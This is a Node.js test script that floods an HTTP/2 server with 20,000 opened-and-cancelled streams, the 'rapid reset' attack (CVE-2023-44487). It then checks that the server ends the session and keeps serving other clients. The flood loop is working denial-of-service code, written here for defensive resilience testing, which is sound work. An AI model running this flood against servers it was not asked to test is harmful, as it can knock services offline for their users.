// HTTP/2 "rapid reset" (CVE-2023-44487) from a client that is not ours, Node's `node:http2`:
// one cleartext session opens 20,000 streams and cancels each at once. The server must end
// that session (GOAWAY) rather than start work for every stream, and keep answering others.
//
// usage: node h2_rapid_reset.mjs HOST:PORT basic|token USER PASSWORD
// Prints what happened; exits non-zero when the session was not ended or the server stopped
// answering.

import http2 from "node:http2";
import { versionCheckStatus } from "./h2_version_check.mjs";

const [addr, , user, password] = process.argv.slice(2);
const base = `http://${addr}`;
const basic = "Basic " + Buffer.from(`${user}:${password}`).toString("base64");

const flood = () =>
  new Promise((resolve) => {
    const session = http2.connect(base);
    let goaway = null;
    let opened = 0;
    session.on("goaway", (code) => {
      goaway = code;
    });
    session.on("error", () => {});
    session.on("close", () => resolve({ goaway, opened, closed: true }));
    session.on("connect", () => {
      for (let i = 0; i < 20000 && !session.destroyed && !session.closed; i++) {
        try {
          const request = session.request({ ":path": "/v2/flood/app/tags/list" });
          request.on("error", () => {});
          request.close(http2.constants.NGHTTP2_CANCEL);
          opened += 1;
        } catch {
          break;
        }
      }
    });
    setTimeout(() => {
      session.destroy();
      resolve({ goaway, opened, closed: false });
    }, 10000);
  });

const seen = await flood();
console.log(`flood: ${seen.opened} streams opened, GOAWAY ${seen.goaway}, closed by the server: ${seen.closed}`);
if (seen.goaway === null && !seen.closed) {
  console.log("FAIL: the flooding session was neither sent GOAWAY nor closed");
  process.exit(1);
}
const status = await versionCheckStatus(base, basic);
console.log(`another session afterwards: ${status}`);
// The version check takes a Basic login in both modes (`mode` changes nothing here).
if (status !== 200) {
  console.log("FAIL: the server does not answer another client after the flood");
  process.exit(1);
}
console.log("all ok");
process.exit(0);
